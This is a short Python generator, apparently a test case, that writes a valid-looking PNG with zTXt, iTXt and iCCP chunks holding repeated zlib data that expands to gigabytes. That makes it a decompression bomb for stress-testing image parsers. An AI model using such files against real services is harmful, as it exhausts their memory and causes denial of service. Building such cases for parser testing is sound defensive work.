"""Leaves a right picture with texts and a profile that unpack to gigabytes."""

import zlib

packer = zlib.compressobj(9)
first, again = (packer.compress(bytes(1 << 20)) + packer.flush(zlib.Z_FULL_FLUSH) for _ in range(2))
packed = first + again * 1000 + packer.flush()
more = chunk(b"zTXt", b"a\0\0" + packed) + chunk(b"iTXt", b"b\0\1\0\0\0" + packed) + chunk(b"iCCP", b"c\0\0" + packed)
put("--output", lambda data: data[:33] + more + data[33:])
